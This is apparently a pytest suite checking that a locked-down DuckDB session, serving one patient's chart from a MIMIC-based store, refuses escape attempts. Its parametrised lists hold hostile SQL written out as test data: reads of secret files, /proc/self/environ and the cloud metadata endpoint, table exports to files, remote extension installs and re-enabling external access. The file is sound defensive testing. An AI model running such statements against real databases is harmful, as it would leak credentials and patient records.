"""Nothing that SQL can say in a slice reaches the store, another patient, the file system or Python."""

from collections.abc import Iterator
from datetime import datetime
from pathlib import Path

import duckdb
import pytest

from mcp_mimic.chart.lockdown import LockDownError, lock_down
from mcp_mimic.chart.slice import Slice, open_slice
from mcp_mimic.store.store import Store
from tests.hospital import ADA, BEN

LATE = datetime(2160, 1, 1)


@pytest.fixture(scope="module")
def folder(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A folder with files that an attacker would like to read, and room for what one would write."""
    folder = tmp_path_factory.mktemp("outside")
    (folder / "secret.csv").write_text("name,value\nkey,hunter2\n", encoding="utf-8")
    (folder / "secret.txt").write_text("hunter2", encoding="utf-8")
    duckdb.connect().execute(f"copy (select 'hunter2' as x) to '{folder}/secret.parquet' (format parquet)")
    return folder


@pytest.fixture(scope="module")
def chart(small_store: Store) -> Iterator[Slice]:
    with open_slice(small_store, ADA, LATE) as chart:
        yield chart


READING = [
    "attach '{store}' as again (read_only)",
    "attach '{store}' as again",
    "attach '{folder}/new.duckdb' as new",
    "attach 'https://example.org/x.duckdb' as remote",
    "from '{store}'",
    "from read_duckdb('{store}', table_name = 'patients')",
    "use store",
    "from store.hosp.patients",
    "from '{folder}/secret.csv'",
    "from read_csv('{folder}/secret.csv')",
    "from read_csv('{folder}/*.csv')",
    "from sniff_csv('{folder}/secret.csv')",
    "from read_text('{folder}/secret.txt')",
    "from read_blob('{folder}/secret.txt')",
    "from read_json('{folder}/secret.txt')",
    "from read_ndjson_objects('{folder}/secret.txt')",
    "from read_parquet('{folder}/secret.parquet')",
    "from '{folder}/secret.parquet'",
    "from parquet_metadata('{folder}/secret.parquet')",
    "from glob('{folder}/*')",
    "summarize '{folder}/secret.csv'",
    "describe from '{folder}/secret.csv'",
    "from query_table('{folder}/secret.csv')",
    "from query('from read_csv(''{folder}/secret.csv'')')",
    "create table taken as from read_csv('{folder}/secret.csv')",
    "copy hosp.omr from '{folder}/secret.csv'",
    "import database '{folder}'",
    "select getenv('HOME')",
    "from '/proc/self/environ'",
    "from read_text('/proc/self/maps')",
    "from 'https://example.org/x.csv'",
    "from read_csv('http://169.254.169.254/latest/meta-data')",
    "from 's3://bucket/x.parquet'",
    "from sqlite_scan('{folder}/x.db', 'y')",
    "from postgres_scan('host=localhost', 'public', 'x')",
]

WRITING = [
    "copy hosp.labevents to '{folder}/out.csv'",
    "copy (select 1) to '{folder}/out.parquet'",
    "copy hosp.labevents to '/dev/stderr'",
    "export database '{folder}/export'",
    "pragma enable_profiling",
    "pragma profiling_output = '{folder}/profile.json'",
    "set log_query_path = '{folder}/log.sql'",
    "call enable_logging(storage = 'file', storage_path = '{folder}/logs')",
    "create persistent secret (type http, bearer_token 'x')",
]

EXTENSIONS = [
    "install httpfs",
    "force install httpfs",
    "install 'https://example.org/evil'",
    "load httpfs",
    "load '{folder}/evil.duckdb_extension'",
    "create extension repository example",
]

SETTINGS = [
    "set enable_external_access = true",
    "set global enable_external_access = true",
    "reset enable_external_access",
    "pragma enable_external_access = true",
    "set lock_configuration = false",
    "reset lock_configuration",
    "set allowed_paths = ['{store}']",
    "set allowed_directories = ['/']",
    "set allowed_configs = ['enable_external_access']",
    "set temp_directory = '{folder}/tmp'",
    "reset temp_directory",
    "set memory_limit = '100GB'",
    "set threads = 64",
    "set python_enable_replacements = true",
    "set session python_enable_replacements = true",
    "set python_scan_all_frames = true",
    "set autoload_known_extensions = true",
    "set autoinstall_known_extensions = true",
    "set allow_community_extensions = true",
    "set allow_unsigned_extensions = true",
    "set secret_directory = '{folder}'",
    "set home_directory = '{folder}'",
    "set extension_directories = ['{folder}']",
]


@pytest.mark.parametrize("attack", [*READING, *WRITING, *EXTENSIONS, *SETTINGS])
def test_an_attack_is_refused(chart: Slice, small_store: Store, folder: Path, attack: str) -> None:
    with pytest.raises(duckdb.Error):
        chart.cursor().execute(attack.format(store=small_store.database, folder=folder)).fetchall()
    assert {path.name for path in folder.iterdir()} == {"secret.csv", "secret.txt", "secret.parquet"}


@pytest.mark.parametrize("name", ["rows", "connection", "HIDDEN", "chart", "small_store"])
def test_python_variables_are_not_tables(chart: Slice, small_store: Store, name: str) -> None:
    rows = connection = [{"a": 1}]
    assert rows is connection
    cursor = chart.cursor()
    with pytest.raises(duckdb.CatalogException):
        cursor.execute(f"from {name}").fetchall()
    with pytest.raises(duckdb.CatalogException):
        cursor.execute(f"from query_table('{name}')").fetchall()


HIDDEN = [{"a": 1}]


def test_a_cursor_of_a_cursor_is_as_locked(chart: Slice, small_store: Store) -> None:
    for sql in (f"attach '{small_store.database}' as again (read_only)", "set threads = 64", "from HIDDEN"):
        with pytest.raises(duckdb.Error):
            chart.cursor().cursor().execute(sql).fetchall()


def test_a_macro_or_a_prepared_statement_opens_no_file(chart: Slice, folder: Path) -> None:
    cursor = chart.cursor()
    cursor.execute("create or replace temp macro reader(path) as table from read_csv(path)")
    cursor.execute("prepare reader as from read_csv(?)")
    for sql in (f"from reader('{folder}/secret.csv')", f"execute reader('{folder}/secret.csv')"):
        with pytest.raises(duckdb.Error):
            cursor.execute(sql).fetchall()


def test_only_the_slice_is_attached_and_no_path_is_named(chart: Slice, small_store: Store) -> None:
    cursor = chart.cursor()
    found = cursor.execute("select database_name, path from duckdb_databases()").fetchall()
    assert sorted(found) == [("memory", None), ("system", None), ("temp", None)]
    settings = cursor.execute("select string_agg(value, ' ') from duckdb_settings()").fetchall()
    assert str(small_store.path) not in settings[0][0]


def test_no_other_patient_is_left_behind_in_any_catalogue(chart: Slice) -> None:
    cursor = chart.cursor()
    for listing in (
        "duckdb_tables()",
        "duckdb_views()",
        "duckdb_columns()",
        "duckdb_memory()",
        "duckdb_logs",
    ):
        text = str(cursor.execute(f"from {listing}").fetchall())
        assert str(ADA) not in text
        assert str(BEN) not in text


def test_nothing_spills_to_disk(chart: Slice, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(tmp_path)
    with pytest.raises(duckdb.OutOfMemoryException):
        chart.cursor().execute(
            "select count(*) from (select distinct repeat(i::varchar, 500) from range(30_000_000) t(i))"
        ).fetchall()
    assert list(tmp_path.iterdir()) == []


def test_a_database_with_something_attached_is_not_served(small_store: Store) -> None:
    with duckdb.connect() as connection:
        small_store.attach(connection)
        with pytest.raises(LockDownError):
            lock_down(connection, memory_limit="100MB", threads=1)


def test_a_database_with_an_allowed_path_is_not_served(folder: Path) -> None:
    with duckdb.connect() as connection:
        connection.execute(f"set allowed_directories = ['{folder}']")
        with pytest.raises(LockDownError):
            lock_down(connection, memory_limit="100MB", threads=1)
